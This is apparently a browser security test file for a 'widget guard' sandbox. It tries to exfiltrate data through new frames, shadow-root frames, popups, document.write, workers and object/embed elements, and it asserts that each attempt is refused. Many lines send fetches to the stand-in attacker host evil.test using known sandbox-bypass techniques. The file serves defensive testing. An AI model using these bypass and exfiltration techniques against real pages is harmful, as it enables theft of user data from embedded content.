// New realms: a same-origin frame or popup has its own, unguarded sinks until the guard reaches
// it. Each test makes one kind of new realm the guard might miss and sends from it; the servers'
// log says whether anything got out.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { assertNothingLeaked, served, useBrowser, waitForServed } from './helpers.mjs';

const session = useBrowser();
const { open } = session;

/** In the page: what a fetch to evil.test/<marker>/<name> from `win` gave (a guard refusal names the guard). */
const PROBE = `window.probe = async (win, marker, name) => {
  const outcome = await attempt(() => win.fetch('https://evil.test/' + marker + '/' + name));
  return outcome.error ? outcome.error + (/widget-guard refused/.test(outcome.message) ? ' (guard)' : '') : 'sent';
};`;

test('fresh same-origin frames reached only as frames[i] (no getter): every insertion path, a synchronous load handler, another realm\'s DOM method, a data: frame → refused (guard; the data: frame is cross-origin)', async () => {
  const page = await open(PROBE);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const marker = 'adv-frames';
    const newest = () => frames[frames.length - 1];
    const container = () => document.body.appendChild(document.createElement('div'));
    const iframe = () => document.createElement('iframe');
    const results = {};
    container().replaceChildren(iframe());
    results.replaceChildren = await probe(newest(), marker, 'replace-children');
    container().appendChild(document.createTextNode('x')).after(iframe());
    results.textNodeAfter = await probe(newest(), marker, 'text-after');
    const range = document.createRange();
    range.selectNodeContents(container().appendChild(document.createElement('p')));
    range.surroundContents(iframe());
    results.surroundContents = await probe(newest(), marker, 'surround-contents');
    const editable = container();
    editable.contentEditable = 'true';
    editable.focus();
    document.execCommand('insertHTML', false, '<iframe></iframe>');
    results.execCommandInsertHTML = await probe(newest(), marker, 'exec-command');
    const body = document.createElement('body');
    body.append(...document.body.childNodes, iframe());
    document.body = body;
    results.bodySetter = await probe(newest(), marker, 'body-setter');
    // Chromium fires a frame's first load event inside appendChild, before the guard's hook returns.
    const early = iframe();
    let fromLoad;
    early.onload = () => { fromLoad = probe(newest(), marker, 'sync-load'); };
    container().appendChild(early);
    results.syncLoadHandler = await fromLoad;
    // The widget's appendChild used on a frame's node: the new frame is the frame's child.
    const child = newest();
    Node.prototype.appendChild.call(child.document.body, iframe());
    results.otherRealmsMethod = await probe(child[0], marker, 'other-realm');
    const data = iframe();
    data.src = 'data:text/html,<p>opaque</p>';
    await new Promise((resolve) => { data.onload = resolve; container().append(data); });
    results.dataFrame = await probe(newest(), marker, 'data-frame');
    results.allowed = await attempt(() => frames[0].fetch('https://api.test/v1/adv-frames/ok').then((r) => r.json()));
    return results;
  });
  await waitForServed('api.test/v1/adv-frames/ok');
  assertNothingLeaked('adv-frames');
  assert.deepEqual({ ...outcomes, allowed: outcomes.allowed.value?.path }, {
    replaceChildren: 'TypeError (guard)',
    textNodeAfter: 'TypeError (guard)',
    surroundContents: 'TypeError (guard)',
    execCommandInsertHTML: 'TypeError (guard)',
    bodySetter: 'TypeError (guard)',
    syncLoadHandler: 'TypeError (guard)',
    otherRealmsMethod: 'TypeError (guard)',
    dataFrame: 'SecurityError', // an opaque origin: its realm is out of reach (its own script is the CSP's, see below)
    allowed: '/v1/adv-frames/ok',
  });
  await page.close();
});

test('a guarded same-origin frame navigated to a new document of the same origin (another srcdoc, blob:, about:blank, a reload), which would be a new realm: the navigation is refused (guard)', async () => {
  const page = await open(PROBE);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const marker = 'adv-renavigate';
    // Every document sends from its own script as it loads: in a new realm, before anyone could guard it.
    const page = (name) => `<script>fetch('https://evil.test/${marker}/${name}-own-script').catch(() => {})<\/script>`;
    const blob = (name) => URL.createObjectURL(new Blob([page(name)], { type: 'text/html' }));
    /** Loads a srcdoc frame, runs `navigate(frame, window)`, waits until it loaded again or the guard refused, probes frames[i]. */
    const navigated = async (name, navigate) => {
      const frame = document.createElement('iframe');
      frame.srcdoc = page(name + '-first');
      await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
      const index = frames.length - 1;
      const refused = new Promise((resolve) => document.addEventListener('widget-guard:violation', function once(e) {
        if (e.detail.sink === 'navigation') { document.removeEventListener('widget-guard:violation', once); resolve('refused'); }
      }));
      const loaded = new Promise((resolve) => { frame.onload = () => resolve('loaded'); });
      navigate(frame, frames[index]);
      const timeout = new Promise((resolve) => setTimeout(() => resolve('neither loaded nor refused'), 5000));
      return `${await Promise.race([refused, loaded, timeout])}, ${await probe(frames[index], marker, name)}`;
    };
    return {
      srcdocAgain: await navigated('srcdoc-again', (frame) => { frame.srcdoc = page('srcdoc-again'); }),
      blobSrc: await navigated('blob-src', (frame) => { frame.src = blob('blob-src'); frame.removeAttribute('srcdoc'); }),
      aboutBlank: await navigated('about-blank', (frame, win) => { win.location.href = 'about:blank'; }),
      blobReplace: await navigated('blob-replace', (frame, win) => win.location.replace(blob('blob-replace'))),
      reload: await navigated('reload', (frame, win) => win.location.reload()),
      fragment: await navigated('fragment', (frame, win) => { win.location.hash = 'same-document'; frame.onload(); }),
    };
  });
  assertNothingLeaked('adv-renavigate');
  assert.deepEqual(outcomes, {
    srcdocAgain: 'refused, TypeError (guard)',
    blobSrc: 'refused, TypeError (guard)',
    aboutBlank: 'refused, TypeError (guard)',
    blobReplace: 'refused, TypeError (guard)',
    reload: 'refused, TypeError (guard)',
    fragment: 'loaded, TypeError (guard)', // a same-document move makes no new realm: let through
  });
  await page.close();
});

test('popups: document.open(url, name, features) (window.open by another name), from the widget and a fresh frame, to an unlisted origin or about:blank → null, nothing opens (guard)', async () => {
  const page = await open();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    const opened = (fn) => { const popup = fn(); return popup === null ? 'null' : 'a window'; };
    const outcomes = {
      documentOpen: opened(() => document.open('https://evil.test/adv-popups/document-open', '_blank', '')),
      blank: opened(() => document.open('about:blank', 'blank', '')),
      fromFrame: opened(() => frame.document.open('https://evil.test/adv-popups/frame-document-open', '_blank', '')),
      otherRealmsMethod: opened(() => Document.prototype.open.call(frame.document, 'https://evil.test/adv-popups/other-realm', '_blank', '')),
      allowed: opened(() => document.open('https://docs.test/adv-popups/allowed', '_blank', '')),
    };
    document.open(); // the two-argument form still replaces the document
    document.write('<p id="rewritten">rewritten</p>');
    document.close();
    return { ...outcomes, rewritten: document.getElementById('rewritten') !== null };
  });
  await waitForServed('docs.test/adv-popups/allowed');
  assertNothingLeaked('adv-popups');
  assert.deepEqual(outcomes, { documentOpen: 'null', blank: 'null', fromFrame: 'null', otherRealmsMethod: 'null', allowed: 'a window', rewritten: true });
  await page.close();
});

test('frames in shadow trees (open and closed roots), which are not among frames[i]: reached through contentWindow and contentDocument, a synchronous load handler, a srcdoc script, WebRTC from such a frame → refused (guard)', async () => {
  const page = await open(PROBE);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const marker = 'adv-shadow-frames';
    const shadowFrame = (mode) => {
      const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode });
      return root.appendChild(document.createElement('iframe'));
    };
    const results = {};
    for (const mode of ['open', 'closed']) {
      results[`${mode}ContentWindow`] = await probe(shadowFrame(mode).contentWindow, marker, mode + '-content-window');
      results[`${mode}ContentDocument`] = await probe(shadowFrame(mode).contentDocument.defaultView, marker, mode + '-content-document');
    }
    const root = document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' });
    const early = document.createElement('iframe');
    let fromLoad;
    early.onload = (event) => { fromLoad = probe(event.target.contentWindow, marker, 'sync-load'); };
    root.append(early);
    results.syncLoadHandler = await fromLoad;
    const srcdoc = document.createElement('iframe');
    srcdoc.srcdoc = `<script>parent.srcdocResult = fetch('https://evil.test/${marker}/srcdoc').then(() => 'sent', (e) => /widget-guard refused/.test(e.message) ? 'TypeError (guard)' : e.message)<\/script>`;
    await new Promise((resolve) => { srcdoc.onload = resolve; root.append(srcdoc); });
    results.srcdocScript = await window.srcdocResult;
    results.webrtc = await attempt(() => new (shadowFrame('closed').contentWindow.RTCPeerConnection)()).then((outcome) => outcome.error ?? 'created');
    results.allowed = await attempt(() => shadowFrame('closed').contentWindow.fetch('https://api.test/v1/adv-shadow-frames/ok').then((r) => r.json()));
    return results;
  });
  await waitForServed('api.test/v1/adv-shadow-frames/ok');
  assertNothingLeaked('adv-shadow-frames');
  assert.deepEqual({ ...outcomes, allowed: outcomes.allowed.value?.path }, {
    openContentWindow: 'TypeError (guard)',
    openContentDocument: 'TypeError (guard)',
    closedContentWindow: 'TypeError (guard)',
    closedContentDocument: 'TypeError (guard)',
    syncLoadHandler: 'TypeError (guard)',
    srcdocScript: 'TypeError (guard)',
    webrtc: 'SecurityError',
    allowed: '/v1/adv-shadow-frames/ok',
  });
  await page.close();
});

test('frames with their own scripts: a srcdoc document\'s script runs in the realm the guard already holds → refused (guard); a data: document is another origin, out of the guard\'s reach → frame-src \'none\' of the generated CSP blocks it (browser CSP)', async () => {
  const guardOnly = await open();
  const fromSrcdoc = await guardOnly.evaluate(async () => {
    await guardReady;
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>parent.result = fetch('https://evil.test/adv-own-script/srcdoc').then(() => 'sent', (e) => e.message)<\/script>`;
    await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
    return window.result;
  });
  assert.match(fromSrcdoc, /widget-guard refused fetch/);
  await guardOnly.close();
  const underCsp = await session.openUnderCsp();
  const blocked = await underCsp.evaluate(async () => {
    await guardReady;
    const frame = document.createElement('iframe');
    frame.src = `data:text/html,<script>fetch('https://evil.test/adv-own-script/data')<\/script>`;
    document.body.append(frame);
    return cspBlocked(1, 'frame-src');
  });
  assert.deepEqual(blocked, ['frame-src ']); // Chromium reports a blocked data: frame without its URL
  assertNothingLeaked('adv-own-script');
  await underCsp.close();
});

test('stated limit: code that runs inside the inserting call (a custom element\'s reaction, an inline script inserted or document.written with the frame) reaches the new frame before the guard; under the generated CSP its about:blank realm keeps connect-src, so only a listed origin is reached (browser CSP), and the inline script does not run at all', async () => {
  const page = await session.openUnderCsp();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    let guarded;
    customElements.define('x-first-in', class extends HTMLElement {
      connectedCallback() {
        const frame = frames[frames.length - 1];
        guarded = !String(frame.fetch).includes('[native code]');
        // keepalive: the frame's first document is replaced by its srcdoc, which would abort a plain fetch.
        for (const url of ['https://evil.test/adv-insertion/custom-element', 'https://api.test/adv-insertion/admin']) frame.fetch(url, { keepalive: true }).catch(() => {});
      }
    });
    // A frame with a document on its way has no synchronous load event for the guard to catch.
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<p>loading</p>' }), document.createElement('x-first-in'));
    const script = Object.assign(document.createElement('script'), { textContent: `window.ran = frames[frames.length - 1].fetch('https://evil.test/adv-insertion/inline-script')` });
    document.body.append(document.createElement('iframe'), script);
    const inlineScript = await cspBlocked(1, 'script-src');
    // The same through document.write, in one call (the parser runs the script before write returns).
    document.write(`<iframe srcdoc="<p>x</p>"></iframe><script>window.ranWritten = frames[frames.length - 1].fetch('https://evil.test/adv-insertion/written-script')<\/script>`);
    return { customElementSawGuard: guarded, inlineScript, ran: 'ran' in window, ranWritten: 'ranWritten' in window };
  });
  assert.deepEqual(outcomes, { customElementSawGuard: false, inlineScript: ['script-src-elem inline'], ran: false, ranWritten: false });
  await waitForServed('api.test/adv-insertion/admin'); // a path the allow-list forbids: the guard never saw this fetch
  assertNothingLeaked('adv-insertion');
  await page.close();
});

test('stated limit: an allowed popup that the widget navigates to about:blank becomes a same-origin realm the guard never saw; under the generated CSP that document inherits connect-src, so only a listed origin is reached (browser CSP)', async () => {
  const page = await session.openUnderCsp();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const popup = window.open('https://docs.test/adv-popup-blank/allowed');
    await waitFor(() => { try { popup.document; return false; } catch (_) { return true; } }); // cross-origin now
    popup.location.href = 'about:blank';
    await waitFor(() => popup.location.href === 'about:blank' && popup.document.readyState === 'complete');
    const send = (url) => popup.fetch(url).then(() => 'sent', (e) => (/widget-guard/.test(e.message) ? 'guard' : 'browser'));
    const outcomes = [await send('https://evil.test/adv-popup-blank/unlisted'), await send('https://api.test/adv-popup-blank/admin')];
    popup.close();
    return outcomes;
  });
  assert.deepEqual(outcomes, ['browser', 'sent']);
  await waitForServed('api.test/adv-popup-blank/admin');
  assertNothingLeaked('adv-popup-blank');
  await page.close();
});

test('workers from blob: and data: URLs (Worker, SharedWorker, a fresh frame\'s Worker) → refused (guard); with allowApis: ["worker"], the generated CSP\'s worker-src \'none\' blocks them (browser CSP)', async () => {
  const spawn = (page) => page.evaluate(async () => {
    await guardReady;
    const code = (name) => `fetch('https://evil.test/adv-workers/${name}')`;
    const blob = (name) => URL.createObjectURL(new Blob([code(name)], { type: 'text/javascript' }));
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    frame.document.addEventListener('securitypolicyviolation', (e) => cspViolations.push(`${e.effectiveDirective} ${e.blockedURI} (frame)`));
    const error = async (fn) => (await attempt(() => { fn(); })).error ?? 'created';
    return {
      blobWorker: await error(() => new Worker(blob('blob-worker'))),
      dataWorker: await error(() => new Worker(`data:text/javascript,${code('data-worker')}`)),
      blobShared: await error(() => new SharedWorker(blob('blob-shared'))),
      dataShared: await error(() => new SharedWorker(`data:text/javascript,${code('data-shared')}`)),
      frameWorker: await error(() => new frame.Worker(blob('frame-worker'))),
    };
  });
  const guardOnly = await open();
  assert.deepEqual(await spawn(guardOnly), { blobWorker: 'SecurityError', dataWorker: 'SecurityError', blobShared: 'SecurityError', dataShared: 'SecurityError', frameWorker: 'SecurityError' });
  await guardOnly.close();
  // Workers allowed in-page (no allow rules, which would refuse blob: and data: URLs): only the browser is left.
  const allowed = await session.openUnderCsp({ connectDomains: ['https://api.test'], allowApis: ['worker'] });
  await spawn(allowed);
  // Blocked by the browser as they load (a constructor may still return an object that never runs).
  assert.deepEqual(await allowed.evaluate(() => cspBlocked(5, 'worker-src')), ['worker-src blob', 'worker-src blob', 'worker-src blob (frame)', 'worker-src data', 'worker-src data']);
  assertNothingLeaked('adv-workers');
  await allowed.close();
});

test('document.write of a frame, of a script, and a whole new document after document.open(): the written frame and script run in guarded realms → refused (guard)', async () => {
  const page = await open(PROBE);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    document.write('<iframe></iframe>');
    const frame = await probe(frames[frames.length - 1], 'adv-write', 'frame');
    document.write(`<script>window.written = fetch('https://evil.test/adv-write/script').then(() => 'sent', (e) => e.name)<\/script>`);
    const script = await window.written;
    document.open();
    document.write(`<!doctype html><title>new</title><iframe></iframe><script>window.rewritten = fetch('https://evil.test/adv-write/new-document').then(() => 'sent', (e) => e.name)<\/script>`);
    document.close();
    const allowed = await fetch('https://api.test/v1/adv-write/ok').then(() => 'sent');
    return { frame, script, newDocument: await window.rewritten, newDocumentFrame: await probe(frames[frames.length - 1], 'adv-write', 'new-document-frame'), allowed };
  });
  await waitForServed('api.test/v1/adv-write/ok');
  assertNothingLeaked('adv-write');
  assert.deepEqual(outcomes, { frame: 'TypeError (guard)', script: 'TypeError', newDocument: 'TypeError', newDocumentFrame: 'TypeError (guard)', allowed: 'sent' });
  await page.close();
});

test('stated limit: an <object> or <embed> showing a same-origin blob: document creates its realm asynchronously and runs its script before the guard can reach it; the generated CSP\'s object-src \'none\' blocks it (browser CSP)', async () => {
  const embedded = (tag, name) => `(() => {
    const element = document.createElement('${tag}');
    element.type = 'text/html';
    element['${tag === 'object' ? 'data' : 'src'}'] = URL.createObjectURL(new Blob(['<script>fetch("https://api.test/admin/adv-object/${name}")<\\/script>'], { type: 'text/html' }));
    document.body.append(element);
  })()`;
  for (const tag of ['object', 'embed']) {
    // Each alone: a later insertion would find the first one's realm, as a frame's, and guard it.
    const guardOnly = await open();
    await guardOnly.evaluate(`guardReady.then(() => ${embedded(tag, tag)})`);
    await waitForServed(`api.test/admin/adv-object/${tag}`); // a path the allow-list forbids
    await guardOnly.close();
  }
  const underCsp = await session.openUnderCsp();
  const blocked = await underCsp.evaluate(`guardReady.then(() => { ${embedded('object', 'csp-object')}; ${embedded('embed', 'csp-embed')}; return cspBlocked(2, 'object-src'); })`);
  assert.equal(blocked.length, 2);
  await new Promise((resolve) => setTimeout(resolve, 300));
  assert.deepEqual(served.filter((request) => request.includes('adv-object/csp-')), []);
  await underCsp.close();
});
